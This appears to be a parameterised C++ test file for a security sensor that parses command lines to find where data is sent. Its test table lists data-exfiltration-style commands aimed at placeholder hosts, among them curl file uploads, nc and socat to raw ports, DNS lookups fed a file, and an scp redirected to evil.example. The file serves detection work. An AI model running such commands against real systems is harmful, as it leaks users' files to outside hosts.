#include "agent/sensor/destination.h"

#include <gtest/gtest.h>

#include "agent/sensor/command_line.h"

namespace vigie::agent::sensor {
namespace {

using enum DestinationForm;

struct DestinationCase {
  DestinationForm form;
  std::string command_line;
  std::string kind;  // empty: none
  std::string name;
  std::string address;
  std::uint32_t port;
};

class DestinationTable : public ::testing::TestWithParam<DestinationCase> {};

TEST_P(DestinationTable, FindsWhereDataGoes) {
  const DestinationCase& test = GetParam();
  const auto destination = ParseDestination(test.form, SplitArguments(test.command_line));
  ASSERT_EQ(destination.has_value(), !test.kind.empty()) << test.command_line;
  if (!destination) return;
  EXPECT_EQ(destination->kind(), test.kind);
  EXPECT_EQ(destination->name(), test.name);
  EXPECT_EQ(destination->address(), test.address);
  EXPECT_EQ(destination->port(), test.port);
}

const std::vector<DestinationCase> kCases = {
    {kWeb, "curl -F f=@a http://127.0.0.1:8081/in", "url", "http://127.0.0.1:8081/in", "127.0.0.1", 8081},
    {kWeb, "curl https://u:p@files.example.com/in?token=1#x", "url", "https://files.example.com/in",
     "files.example.com", 443},
    {kWeb, "curl -x http://proxy.example:3128 -T a https://x.example/", "url", "https://x.example/", "", 443},
    {kWeb, "curl --url=https://x.example/a", "url", "https://x.example/a", "x.example", 443},
    {kWeb, "curl -T a.csv files.example.com/up", "url", "http://files.example.com/up", "files.example.com", 80},
    {kWeb, "curl -T a http://[2001:db8::1]:8080/", "url", "http://[2001:db8::1]:8080/", "2001:db8::1", 8080},
    {kCopy, "scp -i key a.csv bob@backup.example.com:/in", "host", "backup.example.com", "backup.example.com", 22},
    {kCopy, "scp ./a:b.csv host:", "host", "host", "host", 22},
    {kCopy, "rsync -a -e ssh a.csv backup:/in", "host", "backup", "backup", 22},
    {kCopy, "rsync a.csv rsync://mirror.example/in", "url", "rsync://mirror.example/in", "mirror.example", 873},
    {kShell, "ssh -p 2222 bob@shell.example cat", "host", "shell.example", "shell.example", 2222},
    {kShell, "sftp bob@files.example:/in", "host", "files.example", "files.example", 22},
    {kHostAndPort, "nc 10.0.0.1 9000", "host", "10.0.0.1", "10.0.0.1", 9000},
    {kSocat, "socat - TCP:10.0.0.1:9000", "host", "10.0.0.1", "10.0.0.1", 9000},
    {kRclone, "rclone copy a.csv drive:in", "host", "drive", "", 0},
    {kUrl, "aws s3 cp a.csv s3://bucket/in", "url", "s3://bucket/in", "bucket", 0},
    {kWeb, "curl -T a http://x.example/ http://y.example/", "url", "http://x.example/", "", 80},
    {kWeb, "curl --resolve x.example:80:203.0.113.1 -T a http://x.example/", "url", "http://x.example/", "", 80},
    {kWeb, "curl -F f=@a -X PUT http://x.example/", "url", "http://x.example/", "x.example", 80},
    {kCopy, "scp -P 2222 -o HostName=evil.example a.csv backup:", "host", "backup", "", 2222},
    {kCopy, "scp -P2222 -o BatchMode=yes a.csv backup:", "host", "backup", "backup", 2222},
    {kCopy, "scp one:a two:b", "host", "two", "two", 22},
    {kCopy, "scp a.csv bob@[2001:db8::1]:in", "host", "2001:db8::1", "2001:db8::1", 22},
    {kCopy, "rsync a.csv backup::module/in", "host", "backup", "backup", 873},
    {kCopy, "rsync -e /tmp/other a.csv backup:in", "host", "backup", "", 22},
    {kShell, "ssh -J jump.example shell.example", "host", "shell.example", "", 22},
    {kHostAndPort, "nc -N -q 1 10.0.0.1 9000", "host", "10.0.0.1", "10.0.0.1", 9000},
    {kHostAndPort, "lftp -e put a; bye -p 2121 files.example", "host", "files.example", "files.example", 2121},
    {kHostAndPort, "lftp -c open ftp://bob:pw@files.example:2121; put a.csv", "url", "ftp://files.example:2121",
     "files.example", 2121},
    {kHostAndPort, "ftp -u ftp://files.example:2121/a.csv /home/a.csv", "url", "ftp://files.example:2121/a.csv",
     "files.example", 2121},
    {kSocat, "socat -u FILE:/a:1 TCP4:[::1]:9000,crlf", "host", "::1", "::1", 9000},
    {kSocat, "socat - EXEC:/bin/x:9000", "", "", "", 0},
    {kRclone, "rclone copyto a.csv :sftp,host=files.example,port=2222:in", "host", "files.example", "files.example",
     2222},
    {kRclone, "rclone copy a.csv :drive:in", "host", "drive", "", 0},
    {kRclone, "rclone copyto a.csv :webdav,url='https://dav.example:8443/in':a.csv", "url",
     "https://dav.example:8443/in", "dav.example", 8443},
    {kRclone, "rclone copyto a.csv :webdav:a.csv --webdav-url=http://dav.example/in", "url", "http://dav.example/in",
     "dav.example", 80},
    {kShare, "smbclient //files/in -c put", "share", "//files/in", "files", 445},
    {kRepository, "git push https://x.example/r.git main", "url", "https://x.example/r.git", "x.example", 443},
    {kRepository, "git push git@x.example:r.git", "host", "x.example", "x.example", 22},
    {kRepository, "git push /srv/r.git", "folder", "/srv/r.git", "", 0},
    {kRepository, "svn import . file:///srv/r -m text", "folder", "/srv/r", "", 0},
    {kRepository, "git add /srv/a.csv", "", "", "", 0},
    {kMail, "mutt -s text -a a.csv -- bob@x.example", "mail", "x.example", "x.example", 0},
    {kMail, "swaks --to bob@x.example --attach @a.csv --server y.example", "mail", "x.example", "x.example", 0},
    {kMail, "mutt -a a.csv -- bob@x.example eve@y.example", "mail", "x.example", "", 0},
    {kPrinter, "lp -d office a.csv", "printer", "office", "", 0},
    {kPrinter, "lpr -Poffice a.csv", "printer", "office", "", 0},
    {kNameServer, "dig @192.0.2.1 -f a.csv", "host", "192.0.2.1", "192.0.2.1", 53},
    {kLookup, "nslookup - 192.0.2.1", "host", "192.0.2.1", "192.0.2.1", 53},
    {kLookup, "nslookup -port=5353 -type=txt x.example 192.0.2.1", "host", "192.0.2.1", "192.0.2.1", 5353},
    {kLookup, "host -t txt x.example ns.example", "host", "ns.example", "ns.example", 53},
    {kLookup, "host -t txt x.example", "", "", "", 0},
    {kDesktop, "xfreerdp /v:desk.example:3390 /u:bob", "host", "desk.example", "desk.example", 3390},
    {kNone, "zip a http://x.example/", "", "", "", 0},
    {kWeb, "curl", "", "", "", 0},
    {kWeb, "curl http://", "", "", "", 0},
    {kCopy, "scp a.csv /mnt", "", "", "", 0},
    {kHostAndPort, "", "", "", "", 0},
};

INSTANTIATE_TEST_SUITE_P(Cases, DestinationTable, ::testing::ValuesIn(kCases));

}  // namespace
}  // namespace vigie::agent::sensor
